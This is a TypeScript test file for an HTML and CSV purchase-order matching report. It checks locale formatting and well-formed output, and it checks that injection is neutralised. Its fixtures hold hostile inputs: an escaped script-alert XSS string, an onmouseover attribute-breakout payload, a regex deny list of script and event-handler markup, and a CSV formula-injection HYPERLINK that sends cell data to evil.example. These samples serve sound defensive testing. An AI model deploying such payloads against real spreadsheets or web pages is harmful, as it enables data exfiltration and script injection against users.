import { buildReport } from '../../../../nodes/PurchaseOrderMatch/report/buildReport';
import { renderPage } from '../../../../nodes/PurchaseOrderMatch/report/page';
import { sumsCsv } from '../../../../nodes/PurchaseOrderMatch/report/sumsCsv';
import { transactionsCsv } from '../../../../nodes/PurchaseOrderMatch/report/transactionsCsv';
import { textsOf } from '../../../../nodes/PurchaseOrderMatch/report/texts';
import { reportInput } from './worldOfReports';

const pageIn = (language: 'en' | 'nb') => renderPage(buildReport(reportInput({ language })));

describe('The report as a page', () => {
	it('needs nothing else and lets nothing in', () => {
		const page = pageIn('en');
		expect(page).toContain('default-src \'none\'');
		expect(page).not.toMatch(/<script|<img|<iframe|<link|<object|@import|url\(|<[^>]+\son\w+=|javascript:/i);
		const addresses = [...page.matchAll(/(?:href|src)="([^"]*)"/g)].map(([, address]) => address);
		expect(addresses).toEqual(['https://costtracker.example/purchase-orders/p1']);
	});

	it('shows hostile texts as they are', () => {
		expect(pageIn('en')).toContain('&lt;script&gt;alert(&quot;boo&quot;)&lt;/script&gt;');
	});

	it('writes amounts as its language does', () => {
		expect(pageIn('en')).toContain('1,250.00\u00a0NOK');
		expect(pageIn('nb')).toContain('1\u00a0250,00\u00a0NOK');
		expect(pageIn('nb')).toContain('<html lang="nb">');
	});

	it('shows each criterion with its tolerance in their order', () => {
		const criteria = [...pageIn('en').matchAll(/<td class="head">(\d\. [^<]+)/g)].map(([, text]) => text);
		expect(criteria).toEqual([
			'1. PO number on invoice',
			'2. PO number in description',
			'3. Same supplier and project (1:1) (propose only)',
			'4. Same supplier and value within ± 10 %',
			'5. Same supplier and value within ± 100',
		]);
	});

	it('is well formed: every element is closed', () => {
		const open: string[] = [];
		for (const [, slash, name, rest] of pageIn('nb').matchAll(/<(\/?)([a-z][a-z0-9]*)\b([^>]*)>/g)) {
			if (name === 'meta' || rest!.endsWith('/')) continue;
			if (slash) expect(open.pop()).toBe(name);
			else open.push(name!);
		}
		expect(open).toEqual([]);
	});

	it('has a word for everything in both languages', () => {
		const blanks = (value: unknown): boolean =>
			typeof value === 'string' ? value.trim() === '' : typeof value === 'object' && Object.values(value!).some(blanks);
		expect(blanks(textsOf('en'))).toBe(false);
		expect(blanks(textsOf('nb'))).toBe(false);
		expect(Object.keys(textsOf('nb').warnings)).toEqual(Object.keys(textsOf('en').warnings));
		expect(Object.keys(textsOf('nb').settings)).toEqual(Object.keys(textsOf('en').settings));
	});
});

describe('The report as CSV', () => {
	it('has a line for every transaction, also those left alone', () => {
		const { transactions, outcomes } = reportInput();
		const lines = transactionsCsv(transactions, outcomes, 'en').trimEnd().split('\r\n');
		expect(lines).toHaveLength(1 + transactions.length);
		expect(lines[1]).toMatch(/^"Auto-matched","t1","10041","F-77","2021-03-15","Lift og Lys AS","Vinterlys","Leie av lift",1250\.00,"NOK","2021-0001"/);
		expect(lines[3]).toContain('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Klikk her"")"');
		expect(lines[5]).toContain('"\'+47 22 33 44 55","12,5","EUR"');
	});

	it('has every sum', () => {
		const csv = sumsCsv(buildReport(reportInput({ language: 'nb' })));
		expect(csv).toContain('"Leverandør";"502";"""\'><b onmouseover=""alert(1)"">`";"Til vurdering";"NOK";1;-80,50');
		expect(csv).toContain('"Prosjekt";"11";"Vinterlys";"Automatisk matchet";"NOK";1;1250,00');
		expect(csv).toContain('"Kriterium";"4";"Samme leverandør og verdi innenfor ± 10 %";"Tvetydig";;1;');
		expect(csv).toContain('"Status";;;"Uten match";;1;');
	});
});
